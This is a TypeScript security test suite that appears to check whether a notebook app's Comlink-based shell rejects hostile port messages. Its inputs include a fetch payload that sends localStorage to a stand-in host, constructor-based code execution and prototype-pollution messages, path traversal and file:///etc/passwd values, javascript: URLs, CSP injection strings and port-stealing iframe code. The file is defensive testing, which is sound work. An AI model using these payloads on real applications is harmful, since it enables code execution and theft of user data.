import { expect, test } from './attack.ts';
import { answersOf, callShell, notebookFrame, sendRaw, STEAL_PORT } from './portSteal.ts';
import { SECRET } from './secret.ts';
import type { Target } from './target.ts';

const CODE =
  "globalThis.attackRan = ['port']; localStorage.setItem('attack', 'port'); fetch('https://shell.port.test/?' + JSON.stringify({ ...localStorage }))";
const raw = (value: unknown) => ({ type: 'RAW', value });

/** Messages of Comlink's: paths lead from a proxied object to everything. */
const RAW: readonly object[] = [
  { type: 'CONSTRUCT', path: ['constructor', 'constructor'], argumentList: [raw(CODE)] },
  { type: 'CONSTRUCT', path: ['save', 'constructor'], argumentList: [raw(CODE)] },
  { type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [raw(CODE)] },
  { type: 'SET', path: ['__proto__', 'attackRan'], value: raw('polluted') },
  { type: 'SET', path: ['constructor', 'prototype', 'attackRan'], value: raw('polluted') },
  { type: 'APPLY', path: ['constructor', 'prototype', '__defineSetter__'], argumentList: [raw('attackRan'), raw('x')] },
  { type: 'APPLY', path: ['constructor', 'assign'], argumentList: [raw({ attackRan: 1 }), raw({})] },
  { type: 'SET', path: ['settings'], value: raw('gone') },
  { type: 'GET', path: ['constructor', 'constructor', 'name'] },
  { type: 'GET', path: [] },
  { type: 'ENDPOINT', path: [] },
  { type: 'RELEASE', path: [] },
];

/** What is no message at all, or asks for what no list of methods has. */
const ODD: readonly unknown[] = [
  ...[
    'constructor',
    '__proto__',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    'then',
    'get',
    'has',
    'forEach',
    'trust',
    'eval',
    '',
    ' save',
    'SAVE',
    'save\u0000',
  ].map((method) => ({ id: method, method, args: [CODE] })),
  ...[null, 0, 1, {}, [], ['save'], true, { toString: 'save' }].map((method) => ({ id: 'odd', method, args: ['x'] })),
  ...[undefined, null, 'abc', 5, {}, { length: 1e9 }, { 0: 'x', length: 1 }, Array.from({ length: 1e5 }, () => 1)].map(
    (args) => ({ id: 'args', method: 'save', args }),
  ),
  ...[undefined, null, {}, [], NaN, 'x'.repeat(1e6), '__proto__'].map((id) => ({ id, method: 'settings', args: [] })),
  ...[
    null,
    0,
    'save',
    'skybook:frame-ready',
    'skybook:frame-port',
    [],
    [['save', 'x']],
    {},
    { method: 'save' },
    { __proto__: { method: 'save' } },
    { value: 1 },
    { failure: 1 },
  ],
];

/** Known methods with what they do not take. */
const WRONG: readonly (readonly [method: string, args: readonly unknown[]])[] = [
  ...[
    { a: 1 },
    null,
    undefined,
    5,
    true,
    [],
    ['x'],
    new Date(0),
    { length: 9, html: 'x' },
    'no notebook at all',
    '',
  ].map((html) => ['save', [html]] as const),
  ['save', []],
  ['settings', ['proxy']],
  ['settings', [{ trusted: true }]],
  ['opened', [{ trusted: true, origin: 'own' }]],
  ...[
    '../index.html',
    '..%2findex.html',
    '%2e%2e/index.html',
    '/repo/index.html',
    '//shell.port.test/x',
    'https://shell.port.test/x',
    '..\\index.html',
    {},
    null,
    '',
    'x'.repeat(1e6),
    { toString: 1 },
  ].map((path) => ['siteFile', [path]] as const),
  ...[NaN, -1, 0, 1, '1', null, {}, '__proto__'].flatMap((file) =>
    (['writeFile', 'endFile', 'dropFile'] as const).map((method) => [method, [file, 'x'.repeat(1000)]] as const),
  ),
  ['startFile', [{}, {}, {}]],
  ['startFile', ['x', 'text/html', 'yes']],
  ...[['x'], { 0: 'x' }, 5, null].map((html) => ['share', [html]] as const),
  ['download', ['x.html', 'text/html', 'not bytes']],
  ['download', [{}, {}, {}]],
  ...[
    'javascript:globalThis.attackRan=[1]',
    'data:text/html,x',
    'blob:x',
    'file:///etc/passwd',
    'index.html',
    '//x',
    '',
    null,
    {},
    ['https://shell.port.test/'],
    'x'.repeat(1e6),
  ].map((address) => ['openLink', [address]] as const),
  ...[
    null,
    undefined,
    5,
    'all',
    [],
    {},
    { kind: 'x' },
    { kind: 'cells' },
    { kind: 'cells', ids: 'abc' },
    { kind: 'cells', ids: [{}] },
  ].map((begin) => ['run', [begin]] as const),
  ...[
    null,
    'x',
    {},
    { memory: {} },
    { memory: 'x', place: {}, local: 'x' },
    { memory: 'x', place: null, local: [{ name: 'x', isFolder: false, files: [{ path: 'x', file: {} }] }] },
  ].map((handed) => ['handOver', [handed]] as const),
  ['drawn', ['x']],
  ...[
    '*',
    'https://*',
    { host: 'shell.port.test' },
    ['shell.port.test'],
    '',
    null,
    'x'.repeat(1e6),
    'a b',
    "'unsafe-inline'",
    'shell.port.test; script-src *',
  ].flatMap((host) => (['allow', 'refused'] as const).map((method) => [method, [host]] as const)),
];

test('the shell answers to a list of methods and to nothing else', async ({ target }) => {
  await holdPorts(target);
  const identified = RAW.map((message, index) => ({ id: `raw${index}`, ...message }));
  expect(await sendRaw(target, [...identified, ...ODD]), 'ports that the attack holds').toBeGreaterThan(0);
  await runReturned(target);
  await target.settle();
  const answers = await answersOf(target);
  expect.soft(answers.ports, 'ports that came back').toBe(0);
  expect
    .soft(
      answers.text.match(/"id":"raw\d+"[^{}]*"value"/g) ?? answers.text.match(/"id":"raw\d+"/g) ?? [],
      'raw messages that were answered',
    )
    .toEqual([]);
  await expectWhole(target, answers.text);
});

test('its methods take what they are for and nothing else', async ({ target }) => {
  await holdPorts(target);
  for (const [method, args] of WRONG)
    expect(await callShell(target, method, args), 'ports that the attack holds').toBeGreaterThan(0);
  await target.settle();
  await expectWhole(target, (await answersOf(target)).text);
  expect.soft(await target.shownHosts(), 'hosts that the notebook may reach').not.toContain('shell.port.test');
});

test('a notebook larger than any may be is not kept', async ({ target }) => {
  await holdPorts(target);
  await notebookFrame(target).evaluate(() => {
    const { port, second } = (
      globalThis as unknown as { readonly stolen: { readonly port?: MessagePort; readonly second?: MessagePort } }
    ).stolen;
    const html = `<!doctype html><notebook><title>Large</title><script type="text/markdown">${'x'.repeat(33 * 2 ** 20)}</script></notebook>`;
    for (const to of [port, second]) {
      to?.postMessage({ id: 12345, method: 'save', args: [html] });
      to?.postMessage({ id: 'large', type: 'APPLY', path: ['save'], argumentList: [{ type: 'RAW', value: html }] });
    }
  });
  await target.settle();
  await expectWhole(target, '');
});

test('a frame gets one port, and nothing inside or beside it gets any', async ({ target }) => {
  const ask =
    "addEventListener('message', ({ ports }) => ports[0] && (globalThis.attackRan = ['got a port']));for (const to of [parent, parent.parent, top, opener, opener && opener.parent]) to && to.postMessage('skybook:frame-ready', '*')";
  await target.openCells([
    { id: '1', type: 'module', text: STEAL_PORT },
    {
      id: '2',
      type: 'module',
      text: `const ask = ${JSON.stringify(ask)};
for (const sandbox of [undefined, 'allow-scripts', 'allow-scripts allow-same-origin allow-top-navigation']) {
  const frame = document.createElement('iframe');
  if (sandbox) frame.setAttribute('sandbox', sandbox);
  frame.srcdoc = '<script>' + ask + '<' + '/script>';
  document.body.append(frame);
}
for (const address of ['', document.baseURI, 'index.html']) {
  const frame = document.createElement('iframe');
  frame.src = address && new URL(address, document.baseURI).href;
  document.body.append(frame);
}
const popup = window.open('');
popup?.eval(ask);
display('asked');`,
    },
  ]);
  await target.runToEnd();
  await target.settle();
  const got = await Promise.all(
    [...target.page.frames(), ...target.windows.flatMap((window) => window.frames())].map((frame) =>
      frame.evaluate(() => (globalThis as { attackRan?: unknown }).attackRan).catch(() => undefined),
    ),
  );
  expect
    .soft(
      got.filter((mark) => mark !== undefined),
      'frames within that got a port',
    )
    .toEqual([]);
  expect
    .soft(
      await notebookFrame(target).evaluate(
        () => (globalThis as unknown as { readonly stolen: { readonly second?: unknown } }).stolen.second !== undefined,
      ),
      'a second port',
    )
    .toBe(false);
});

/** Opens a notebook whose code has its page's port, and any other that it was given. */
async function holdPorts(target: Target): Promise<void> {
  await target.openCells([{ id: '1', type: 'module', text: STEAL_PORT }]);
  await target.runToEnd();
  await target.settle();
}

/** Comlink's answer to CONSTRUCT is a port to what was made; to call it is to run it. */
async function runReturned(target: Target): Promise<void> {
  await target.settle();
  await notebookFrame(target).evaluate(() => {
    type Answer = { readonly data: { readonly value?: unknown } };
    for (const { data } of (globalThis as unknown as { readonly stolen: { readonly answers: readonly Answer[] } })
      .stolen.answers) {
      if (data?.value instanceof MessagePort)
        data.value.postMessage({ id: 'run', type: 'APPLY', path: [], argumentList: [] });
    }
  });
}

async function expectWhole(target: Target, answers: string): Promise<void> {
  expect.soft(answers, 'what came back').not.toContain(SECRET);
  expect.soft(target.reached(), 'who was told').toEqual([]);
  const notebooks = (await target.kept()).records['skybook/notebooks'] ?? [];
  const odd = notebooks.filter(
    ({ html, title }) => typeof title !== 'string' || typeof html !== 'string' || html.length > 32 * 2 ** 20,
  );
  expect
    .soft(
      odd.map(({ html }) => `${typeof html} ${String(html).length}`),
      'what was kept that is no notebook',
    )
    .toEqual([]);
  await target.expectUntouched();
}
